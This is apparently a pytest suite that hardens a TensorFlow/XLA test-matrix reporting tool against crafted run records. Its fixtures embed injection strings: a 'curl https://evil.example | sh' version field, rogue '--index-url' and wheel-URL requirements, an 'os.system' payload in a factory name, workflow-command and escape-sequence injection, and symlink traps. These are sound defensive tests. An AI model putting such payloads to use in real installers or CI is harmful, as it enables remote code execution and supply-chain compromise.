"""Crafted artifacts, second round: reproducers from untrusted records, fields of the wrong
type or depth, arrays whose header lies, quadratic reports, lost provenance, invisible
characters, credentials in URLs. Each test is a case a review reproduced; none needs
TensorFlow (the records, plans, archives and index pages are written by hand)."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from .conftest import CRAFTED_ENV, CRAFTED_SCENARIO, run_cli
from .conftest import crafted_record as record
from .conftest import crafted_run as artifact

ENV, SCENARIO = CRAFTED_ENV, CRAFTED_SCENARIO


def merge(*dirs: Path, out: Path, fmt: str = "md"):
    return run_cli("report", "--merge", *map(str, dirs), "--out", str(out), "--format", fmt)


def unescaped(markdown: str) -> str:
    """Markdown as read: the report escapes `_`, `[` and the like in what it quotes."""
    return markdown.replace("\\", "")


# --- 4: fields of the wrong type or depth end the report -----------------------------------


def nested(depth: int) -> list:
    value: list = []
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize(
    "fields, named",
    [
        ({"fingerprint": {"tensorflow": "2.21.0", "companions": ["tfp"]}}, "companions"),
        ({"fingerprint": {"tensorflow": "2.21.0", "companions": "tfp"}}, "companions"),
        ({"fingerprint": {"tensorflow": "2.21.0", "companions": 5}}, "companions"),
        ({"fingerprint": {"tensorflow": "2.21.0", "devices": 5}}, "devices"),
        ({"fingerprint": {"tensorflow": "2.21.0", "devices": [1]}}, "must be a string, got 1"),
        ({"target_facts": {"deep": nested(500)}}, "target_facts.deep: nested deeper"),
    ],
)
def test_a_field_of_the_wrong_type_or_depth_is_a_named_problem(tmp_path, fields, named):
    bad = record(config="eager", status="pass", **fields)
    artifact(tmp_path / "job", [record(), bad])
    out = tmp_path / "merged"
    proc = merge(tmp_path / "job", out=out)
    assert proc.returncode == 0, proc.stderr
    assert "internal error" not in proc.stderr
    assert named in unescaped(proc.stdout) and "## Problems" in proc.stdout
    for name in ("index.html", "junit.xml", "verdicts.json", "xla_matrix.md"):
        assert (out / name).is_file(), name


# --- 9: NaN ---------------------------------------------------------------------------------


def test_nan_and_infinity_never_reach_junit_or_the_html(tmp_path):
    nan = json.dumps(record(timings={"wall_s": float("nan")})).encode()
    inf = json.dumps(record(config="eager", status="pass", timings={"wall_s": float("inf")}))
    facts = record(config="autojit", target_facts={"x": float("nan")}, timings={"wall_s": 1.5})
    artifact(tmp_path / "job", [nan, inf.encode(), facts], names=["a.json", "b.json"])
    out = tmp_path / "merged"
    proc = merge(tmp_path / "job", out=out, fmt="junit")
    assert proc.returncode == 0, proc.stderr
    assert "nan" not in proc.stdout.lower() and 'inf"' not in proc.stdout
    ET.fromstring(proc.stdout.encode())
    md = unescaped((out / "xla_matrix.md").read_text())
    assert "timings.wall_s: must be a finite number, got nan" in md
    assert "timings.wall_s: must be a finite number, got inf" in md
    for path in out.rglob("*.json*"):
        text = path.read_text()
        assert "NaN" not in text and "Infinity" not in text, path
    html = (out / "index.html").read_text()
    assert "NaN" not in html and "Infinity" not in html


def lying_npz(path: Path, shape: tuple[int, ...]) -> None:
    """A 1 KB .npz whose one array's header claims `shape` (float64)."""
    import io
    import zipfile

    from numpy.lib import format as npformat

    member = io.BytesIO()
    npformat.write_array_header_1_0(
        member, {"descr": "<f8", "fortran_order": False, "shape": shape}
    )
    member.write(b"\0" * 1024)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("step1/0.npy", member.getvalue())


@pytest.mark.parametrize("declared", [[4], [2**40]])
def test_an_array_whose_header_lies_is_never_allocated(tmp_path, declared):
    """The zip cap sums the sizes the archive declares; numpy allocates from the .npy
    header: (2**40,) float64 is 8 TiB."""
    arrays = [{"key": "step1/0", "shape": declared, "dtype": "float64"}]
    cells = []
    for config in ("baseline", "eager"):
        npz = f"results/{ENV}/reference.{SCENARIO}.{config}.npz"
        cells.append(
            record(
                config=config,
                status="pass",
                failure_class=None,
                message="",
                xla={"modules": 2, "names": ["a"], "identities": ["a#1"]},
                outputs={"file": npz, "arrays": arrays},
            )
        )
    run = artifact(tmp_path / "job", cells)
    for config in ("baseline", "eager"):
        lying_npz(run / f"results/{ENV}/reference.{SCENARIO}.{config}.npz", (2**40,))
    proc = run_cli("report", "--run-dir", str(run), "--format", "json", timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["verdicts"]
    html = (run / "index.html").read_text()
    assert "outputs unchecked: " in html and "agrees with eager" not in html
    expected = "the record declares" if declared == [4] else "MiB of arrays once loaded"
    assert expected in html


# --- 6: drift to culprit prints what runs recorded --------------------------------------------

INJECTED = "2.4.6\n::error title=INJECTED::pwned \x1b[2J\x1b]0;title\x07"


def test_drift_lines_print_a_crafted_version_as_one_visible_line(tmp_path):
    """A package version in a plan's provenance is quoted by the drift line ("moved since
    run ..."): a newline there started a GitHub workflow command, an escape cleared the
    screen."""
    matrix = Path(__file__).resolve().parent.parent / "matrix.toml"
    history, expected = tmp_path / "history", tmp_path / "expected.toml"
    cells = [
        {"environment": ENV, "target": "reference", "scenario": SCENARIO, "config": c, "role": r}
        for c, r in (("baseline", "baseline"), ("no-xla-translate", "workaround"))
    ]
    xla = {"modules": 2, "names": ["a"], "identities": ["a#1"]}

    def run(name: str, baseline: str, numpy: str) -> Path:
        fields = {"xla": xla} if baseline == "pass" else {}
        records = [
            record(status=baseline, **fields),
            record(config="no-xla-translate", status="pass", xla=xla),
        ]
        plan = {
            "environment": ENV,
            "cells": cells,
            "complete": True,
            "run_id": name,
            "started": f"2026-11-2{len(name)}T03:00:00+00:00",
            "provenance": {"harness": "h", "packages": {"numpy": numpy}},
        }
        return artifact(tmp_path / "reports" / name, records, plan=plan)

    good = run("good", "fail", "2.4.5")
    kept = run_cli(
        "report", "--run-dir", str(good), "--history", str(history),
        "--write-expected", str(expected), "--quiet", "--matrix", str(matrix),
    )  # fmt: skip
    assert kept.returncode == 0, kept.stderr
    bad = run("bad-run", "pass", INJECTED)
    proc = run_cli(
        "report", "--run-dir", str(bad), "--check", str(expected), "--bisect",
        "--history", str(history), "--matrix", str(matrix),
    )  # fmt: skip
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert re.search(r"moved since run \S+: numpy 2\.4\.5 -> 2\.4\.6 ::error", proc.stdout)
    for stream in (proc.stdout, proc.stderr):
        assert "\x1b" not in stream and "\x07" not in stream
        assert not [line for line in stream.splitlines() if line.startswith("::")]


# --- 13: invisible characters ---------------------------------------------------------------

INVISIBLE = "\u061c\U000e0041\U000e007f\u3164\u180e\ufff9\ufe0f\u202e\u2066\u200b\u00ad\u2028"


def test_invisible_characters_never_reach_a_report(tmp_path):
    from harness.results.untrusted import printable

    assert printable(f"a{INVISIBLE}b") == "a" + " " * len(INVISIBLE) + "b"
    assert printable("naïve 中 😀") == "naïve 中 😀"
    bad = record(message=f"boom {INVISIBLE} end")
    out = tmp_path / "merged"
    proc = merge(artifact(tmp_path / "job", [bad]), out=out)
    assert proc.returncode == 0, proc.stderr
    for text in (proc.stdout, (out / "xla_matrix.md").read_text(), (out / "junit.xml").read_text()):
        assert "boom" in text
        assert not set(INVISIBLE) & set(text)


# --- 11, 14: index pages and index URLs -----------------------------------------------------


def test_an_index_page_nested_100000_deep_is_one_line(fake_index):
    from harness.bisect.index import Index, index_releases
    from harness.config.errors import UsageError

    fake_index.add_file("tf-nightly", "tf_nightly-2.23.0.dev20261026-py3-none-any.whl")
    page = fake_index.root / "simple" / "tf-nightly" / "index.json"
    page.write_bytes(b'{"files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    with pytest.raises(UsageError) as caught:
        index_releases("tf-nightly", Index.parse(fake_index.serve()))
    assert str(caught.value).endswith("not a simple API page: nested too deeply")


def test_a_token_in_an_index_urls_path_is_never_printed(fake_index, tmp_path):
    from harness.bisect.index import Index, index_releases
    from harness.config.errors import UsageError

    token = "a1B2c3D4e5F6g7H8i9J0k"
    url = fake_index.serve().replace("/simple", f"/{token}/simple")
    index = Index.parse(url)
    with pytest.raises(UsageError) as caught:
        index_releases("tf-nightly", index)
    assert token not in str(caught.value) and "/***/simple" in str(caught.value)
    assert token not in index.shown and index.url == url  # still asked for as given
    # and on the command line, whatever it says
    proc = run_cli(
        "bisect", "--index-url", url, "--good", "2.15.1", "--bad", "2.16.2",
        "-t", "xla-fragile", "-s", SCENARIO, "-c", "baseline", "--venvs", str(tmp_path / "v"),
    )  # fmt: skip
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert token not in proc.stdout + proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1


# --- 12: --history at a file ------------------------------------------------------------------


@pytest.mark.parametrize("where", ["file", "file/below"])
def test_history_at_a_file_is_one_line_before_anything_is_written(tmp_path, where):
    run = artifact(tmp_path / "run", [record()])
    (tmp_path / "file").write_text("not a folder\n")
    proc = run_cli("report", "--run-dir", str(run), "--history", str(tmp_path / where))
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.strip().splitlines() == [
        f"xla-matrix: error: --history {str(tmp_path / where)!r}: "
        + ("not a folder" if where == "file" else f"{str(tmp_path / 'file')!r} is not a folder")
    ]
    assert not (run / "index.html").exists() and not (run / "verdicts.json").exists()


# --- 15: versions in [[environment]] ----------------------------------------------------------


@pytest.mark.parametrize(
    "line, key",
    [
        ('tensorflow = "2.21.0; python_version < \\"3\\""', "tensorflow"),
        ('tensorflow = "2.21.0 --index-url https://evil.example"', "tensorflow"),
        ('keras_version = "3.15.1; python_version < \\"3\\""', "keras_version"),
        ('keras_version = "3.15.1,<4"', "keras_version"),
    ],
)
def test_environment_versions_are_versions_not_requirements(tmp_path, line, key):
    from harness.config.matrix import MatrixError, load_matrix

    text = (
        '[[environment]]\nname = "e"\ntensorflow = "2.21.0"\nkeras = "keras3"\n'
        'keras_version = "3.15.1"\n'
    )
    text = text.replace(f"{key} = ", f"#{key} = ", 1).replace("\n#", f"\n{line}\n#", 1)
    text += (
        '[[config]]\nname = "baseline"\nrole = "baseline"\n'
        '[[scenario]]\nname = "s"\nsizes = [8]\n'
        '[[target]]\nname = "t"\nfactory = "a.b:c"\n'
    )
    path = tmp_path / "matrix.toml"
    path.write_text(text)
    with pytest.raises(MatrixError) as caught:
        load_matrix(path, base=None)
    assert f"environment.e.{key}: must be a version such as 2.21.0" in str(caught.value)


def test_environment_versions_that_are_versions_load(tmp_path):
    from harness.config.matrix import load_matrix

    matrix = load_matrix(Path(__file__).resolve().parent.parent / "matrix.toml")
    assert matrix.environment("nightly").tensorflow == "nightly"


# --- 1, 2, 3: reproducers ---------------------------------------------------------------------

FINGERPRINT = {
    "tensorflow": "2.21.0",
    "keras": "3.15.1",
    "keras_flavour": "keras3",
    "numpy": "2.4.6",
    "python": "3.11.7",
    "companions": {"tensorflow-probability": "0.25.0"},
}


def repro_record(
    target: str = "reference", factory: str = "harness.targets.reference:create_model", **fields
):
    data = record(**fields)
    data["cell"] = {**data["cell"], "target": target}
    data["id"] = data["id"].replace("/reference/", f"/{target}/")
    data["log"] = data["log"].replace("/reference.", f"/{target}.")
    data.setdefault("fingerprint", FINGERPRINT)
    data["spec"] = {
        "cell": data["cell"],
        "config": {"name": "baseline", "role": "baseline"},
        "scenario": {"name": SCENARIO, "sizes": [8]},
        "target": {"name": target, "factory": factory},
        "env": {"TF_CPP_MIN_LOG_LEVEL": "2"},
    }
    return data


def repro(run: Path, data: dict, tmp_path: Path, *extra: str):
    # run where there is no matrix.toml: the record is all it has, unless given --matrix
    repo = str(Path(__file__).resolve().parent.parent)
    proc = run_cli(
        "repro", data["id"], "--run-dir", str(run), *extra, cwd=tmp_path, env={"PYTHONPATH": repo}
    )
    folder = run / "repro" / ENV / f"{data['cell']['target']}.{SCENARIO}.baseline"
    return proc, folder


def test_a_crafted_factory_is_never_written_into_repro_py(tmp_path):
    factory = 'os import path\nimport os; os.system("touch PWNED")\nfrom os:path'
    data = repro_record(factory=factory)
    run = artifact(tmp_path / "run", [data])
    proc, folder = repro(run, data, tmp_path)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    [line] = proc.stderr.strip().splitlines()
    assert "spec.target.factory: must look like package.module:callable" in line
    assert "no reproducer written" in line and "\n" not in line
    assert not folder.exists() and not (tmp_path / "PWNED").exists()
    # nor does it survive a merge
    out = tmp_path / "merged"
    assert merge(run, out=out).returncode == 0
    assert "os.system" not in (out / "results.jsonl").read_text()


def test_the_reproducer_is_built_from_the_matrix_definition_of_the_cell(tmp_path):
    """A well-formed but foreign factory in the spec of a matrix target: the matrix's own
    factory is what repro.py imports. A target the matrix does not know keeps its spec's."""
    matrix = Path(__file__).resolve().parent.parent / "matrix.toml"
    known = repro_record(factory="evilpkg.payload:create_model")
    foreign = repro_record(target="mine", factory="mypkg.models:create_model", config="baseline")
    run = artifact(tmp_path / "run", [known, foreign])
    proc, folder = repro(run, known, tmp_path, "--matrix", str(matrix))
    assert proc.returncode == 0, proc.stderr
    script = (folder / "repro.py").read_text()
    assert "evilpkg" not in script and "def create_model" in script
    assert f"the cell as defined by: {matrix}" in (folder / "README.md").read_text()
    proc, folder = repro(run, foreign, tmp_path, "--matrix", str(matrix))
    assert proc.returncode == 0, proc.stderr
    assert "from mypkg.models import create_model" in (folder / "repro.py").read_text()


@pytest.mark.parametrize(
    "fingerprint, named",
    [
        (
            {"numpy": "2.4.6\n--index-url https://evil.example/simple\nevil @ https://e/x.whl"},
            "fingerprint.numpy",
        ),
        ({"tf_keras": "2.21.0 && curl https://evil.example | sh #"}, "fingerprint.tf_keras"),
        (
            {"companions": {"x\n--index-url https://evil.example/simple": "1.0"}},
            "fingerprint.companions",
        ),
        (
            {"companions": {"tensorflow-probability": "0.25.0; python_version<'3'"}},
            "fingerprint.companions",
        ),
        ({"tensorflow": "2.21.0 --pre"}, "fingerprint.tensorflow"),
        ({"tensorflow_dist": "evil @ https://evil.example/x.whl"}, "fingerprint.tensorflow_dist"),
    ],
)
def test_a_crafted_fingerprint_writes_no_requirement_and_no_command(tmp_path, fingerprint, named):
    data = repro_record(fingerprint={**FINGERPRINT, **fingerprint})
    run = artifact(tmp_path / "run", [data])
    proc, folder = repro(run, data, tmp_path)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    [line] = proc.stderr.strip().splitlines()
    assert named in line and "no reproducer written" in line
    assert "evil.example" not in line or "\n" not in line
    assert not folder.exists()


def test_a_fit_fingerprint_gives_exact_pins(tmp_path):
    data = repro_record(fingerprint={**FINGERPRINT, "tf_keras": "2.21.0"})
    run = artifact(tmp_path / "run", [data])
    proc, folder = repro(run, data, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert (folder / "requirements.txt").read_text().splitlines() == [
        "tensorflow-cpu==2.21.0",
        "keras==3.15.1",
        "numpy==2.4.6",
        "tensorflow-probability==0.25.0",
    ]
    assert "pip install --no-deps tf-keras==2.21.0 &&" in (folder / "README.md").read_text()


def test_reproducer_writes_follow_no_link(tmp_path):
    target = tmp_path / "outside.txt"
    target.write_text("keep me\n")
    dump = f"dumps/{ENV}/reference.{SCENARIO}.baseline"
    data = repro_record(xla_dump=dump)
    run = artifact(tmp_path / "run", [data])
    (run / dump).mkdir(parents=True)
    (run / dump / "module_0001.a.before_optimizations.txt").write_text("HloModule a\n")
    proc, folder = repro(run, data, tmp_path)
    assert proc.returncode == 0, proc.stderr
    # a link planted where the HLO goes is replaced, never written through
    (folder / "failing_module.hlo.txt").unlink()
    (folder / "failing_module.hlo.txt").symlink_to(target)
    proc, folder = repro(run, data, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert target.read_text() == "keep me\n"
    assert (folder / "failing_module.hlo.txt").read_text() == "HloModule a\n"
    # the cell's folder a link: refused, nothing written there
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for child in folder.iterdir():
        child.unlink()
    folder.rmdir()
    folder.symlink_to(elsewhere)
    proc, _ = repro(run, data, tmp_path)
    assert proc.returncode == 2 and "a symbolic link" in proc.stderr, proc.stderr
    assert not list(elsewhere.iterdir())


def test_atomic_writes_use_an_unpredictable_temporary_file(tmp_path):
    import os

    from harness.results import store

    target = tmp_path / "outside.txt"
    target.write_text("keep me\n")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / f".decision.json.{os.getpid()}.tmp").symlink_to(target)
    store.write_text_atomic(tmp_path / "out" / "decision.json", "[]\n")
    assert target.read_text() == "keep me\n"
    assert (tmp_path / "out" / "decision.json").read_text() == "[]\n"
    assert not [
        p for p in (tmp_path / "out").iterdir() if p.name.endswith(".tmp") and not p.is_symlink()
    ]


# --- 7: a merge keeps the runs' provenance ----------------------------------------------------


def test_a_merged_folder_keeps_the_packages_and_source_hashes_of_its_runs(tmp_path):
    packages = {f"pkg{i}": f"1.{i}" for i in range(35)}
    cells = [
        {**record()["cell"], "role": "baseline"},
        {**record(config="eager")["cell"], "role": "workaround"},
    ]
    for i, (shard, data) in enumerate(
        (("a", record()), ("b", record(config="eager", status="pass")))
    ):
        plan = {
            "environment": ENV,
            "cells": [cells[i]],
            "complete": True,
            "run_id": f"run-{shard}",
            "provenance": {
                "harness": "h1",
                "targets": {"reference": f"t{shard}"},
                "packages": packages,
            },
        }
        artifact(tmp_path / "artifacts" / shard, [data], plan=plan)
    out = tmp_path / "merged"
    assert merge(tmp_path / "artifacts", out=out).returncode == 0
    [plan] = [json.loads(p.read_text()) for p in (out / "plan").glob("*.json")]
    assert plan["provenance"]["packages"] == packages
    assert plan["provenance"]["harness"] == "h1"
    again = run_cli("report", "--run-dir", str(out), "--format", "json")
    assert again.returncode == 0, again.stderr
    provenance = json.loads(again.stdout)["meta"]["provenance"][ENV]
    assert provenance["packages"] == packages and provenance["harness"] == "h1"


# --- 10: two merges into one folder at once ---------------------------------------------------


def test_two_merges_into_one_folder_at_once_leave_one_consistent_report(tmp_path):
    import subprocess
    import sys

    repo = str(Path(__file__).resolve().parent.parent)

    def folder(name: str, configs: int) -> Path:
        records = [record(config=f"c{i}", role="workaround") for i in range(configs)]
        return artifact(tmp_path / name, records)

    small, large = folder("small", 3), folder("large", 100)
    out = tmp_path / "merged"
    for _ in range(2):
        procs = [
            subprocess.Popen(
                [
                    sys.executable,
                    "-m",
                    "harness",
                    "report",
                    "--merge",
                    str(d),
                    "--out",
                    str(out),
                    "--quiet",
                ],
                cwd=tmp_path,
                env={"PYTHONPATH": repo, "PATH": "/usr/bin:/bin"},
                stdout=subprocess.DEVNULL,
                stderr=subprocess.PIPE,
            )
            for d in (large, small, large)
        ]
        for proc in procs:
            assert proc.wait(timeout=300) == 0, proc.stderr.read() if proc.stderr else ""
        files = sorted(p.name for p in (out / "results" / ENV).glob("*.json"))
        lines = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines()]
        plan = json.loads((out / "plan" / f"{ENV}.json").read_text())
        assert len(files) == len(lines) == len(plan["cells"]), (len(files), len(lines))


def test_a_report_waits_for_the_one_writing_its_folder(tmp_path):
    import fcntl
    import subprocess
    import sys
    import time

    from harness.report.build import LOCK_FILE

    repo = str(Path(__file__).resolve().parent.parent)
    run = artifact(tmp_path / "job", [record()])
    out = tmp_path / "merged"
    out.mkdir()
    with open(out / LOCK_FILE, "w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)  # another report is writing it
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "harness",
                "report",
                "--merge",
                str(run),
                "--out",
                str(out),
                "--quiet",
            ],
            cwd=tmp_path,
            env={"PYTHONPATH": repo, "PATH": "/usr/bin:/bin"},
        )
        time.sleep(3)
        assert proc.poll() is None and not (out / "results.jsonl").exists()
    assert proc.wait(timeout=120) == 0
    assert (out / "results.jsonl").is_file()


# --- 8: credentials in requirement URLs -----------------------------------------------------

TOKEN = "SECRETXYZ123"
WITH = f"secretpkg @ https://__token__:{TOKEN}@127.0.0.1:9/a1B2c3D4e5F6g7H8i9J0/secretpkg-1.0-py3-none-any.whl"


def test_a_token_in_a_requirement_url_is_in_no_file_of_the_run(tmp_path):
    repo = Path(__file__).resolve().parent.parent
    run = tmp_path / "run"
    proc = run_cli(
        "run", "--matrix", str(repo / "matrix.toml"), "--run-dir", str(run), "--no-cache",
        "-t", "reference", "-s", SCENARIO, "-c", "baseline", "--with", WITH,
        cwd=tmp_path, env={"PYTHONPATH": str(repo)},
    )  # fmt: skip
    assert run.is_dir(), proc.stderr
    assert TOKEN not in proc.stdout + proc.stderr
    leaked = [p for p in run.rglob("*") if p.is_file() and TOKEN.encode() in p.read_bytes()]
    assert not leaked
    [line] = [json.loads(x) for x in (run / "results.jsonl").read_text().splitlines()]
    assert line["spec"]["target"]["requires"] == [
        "secretpkg @ https://***@127.0.0.1:9/***/secretpkg-1.0-py3-none-any.whl"
    ]


def test_requirements_with_credentials_reach_the_installer_in_a_file(tmp_path):
    from harness.config.matrix import Environment
    from harness.install.output import InstallFailed
    from harness.install.requires import unavailable_because
    from harness.install.steps import hidden_requirements

    with hidden_requirements(["--pre", "tensorflow-cpu==2.21.0", WITH]) as args:
        assert args[:2] == ["--pre", "tensorflow-cpu==2.21.0"] and args[2] == "-r"
        assert TOKEN not in " ".join(args)
        assert Path(args[3]).read_text() == WITH + "\n"
        assert Path(args[3]).stat().st_mode & 0o077 == 0
    assert not Path(args[3]).exists()
    failed = InstallFailed(f"error: {WITH} not found", 1, ["--no-deps", WITH])
    assert TOKEN not in failed.output + failed.installing
    why = unavailable_because(repr(WITH), Environment("e", "2.21.0"), f"error: {WITH}\n")
    assert TOKEN not in why.message + " ".join(why.detail)


def test_a_probe_venv_install_log_holds_no_requirement_credentials(tmp_path):
    from harness.install.venv import INSTALL_LOG, ensure

    venv = tmp_path / "venv"
    reason = ensure(venv, [[WITH]])
    assert isinstance(reason, str) and "could not install" in reason
    assert TOKEN not in reason
    log = (venv / INSTALL_LOG).read_text()
    assert "-r " in log and TOKEN not in log


# --- the nightly workflow: probes cannot reach the job's files by their names -------------------


def test_a_probe_runs_without_the_runners_files_in_a_folder_of_its_own(tmp_path, monkeypatch):
    """The drift-to-culprit step runs probed nightly builds and target code in the job that
    then saves the history cache and uploads artifacts: a probe gets neither the runner's
    file variables (GITHUB_ENV ...) nor its tokens nor the index's credentials, and runs in
    its own run folder, not the checkout."""
    import os
    import stat

    from harness.bisect.probe import CellQuery, run_cell
    from harness.config.matrix import load_matrix

    seen = tmp_path / "seen"
    fake = tmp_path / "python"
    fake.write_text(f"#!/bin/sh\npwd > {seen}.cwd\nenv > {seen}.env\n")
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    job_env = tmp_path / "github_env"
    for name, value in {
        "GITHUB_ENV": str(job_env),
        "GITHUB_PATH": str(tmp_path / "github_path"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
        "ACTIONS_RUNTIME_TOKEN": "runtime-secret",
        "PIP_INDEX_URL": "https://user:index-secret@host/simple",
    }.items():
        monkeypatch.setenv(name, value)
    matrix = load_matrix(Path(__file__).resolve().parent.parent / "matrix.toml")
    query = CellQuery(matrix, target="reference", scenario=SCENARIO, config="baseline")
    run_dir = tmp_path / "probe"
    outcome = run_cell(fake, query, run_dir, {"TF_USE_LEGACY_KERAS": "1"}, sandbox=True)
    assert outcome.label == "skip"  # it wrote no record
    env = (tmp_path / "seen.env").read_text()
    assert "TF_USE_LEGACY_KERAS=1" in env
    for leaked in ("GITHUB_", "ACTIONS_", "runtime-secret", "index-secret"):
        assert leaked not in env, leaked
    assert Path((tmp_path / "seen.cwd").read_text().strip()) == run_dir.resolve()
    assert Path(os.getcwd()) != run_dir.resolve()
